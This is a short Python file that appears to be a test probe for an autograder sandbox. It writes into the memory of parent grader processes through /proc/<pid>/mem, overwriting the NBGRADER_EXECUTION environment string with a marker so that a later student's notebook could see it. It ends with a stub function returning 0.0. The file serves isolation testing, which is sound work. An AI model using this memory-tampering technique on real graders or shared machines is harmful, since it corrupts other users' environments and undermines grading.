"""Writes into the memory of the process that it was forked from: its environment, where the next student finds it.

Expected: the next notebook finds nothing.
"""

import contextlib

OLD, NEW = b"NBGRADER_EXECUTION=autograde", (MARKER.encode() + b"=1").ljust(28, b"1")[:28]
for pid in graders()[:2]:
    with contextlib.suppress(OSError, ValueError):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for line in maps:
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                if line.split()[1].startswith("rw") and end - start < 1 << 26:
                    memory.seek(start)
                    where = memory.read(end - start).find(OLD)
                    if where >= 0:
                        memory.seek(start + where)
                        memory.write(NEW)
                        print(PROOF)


def law(x):
    return 0.0
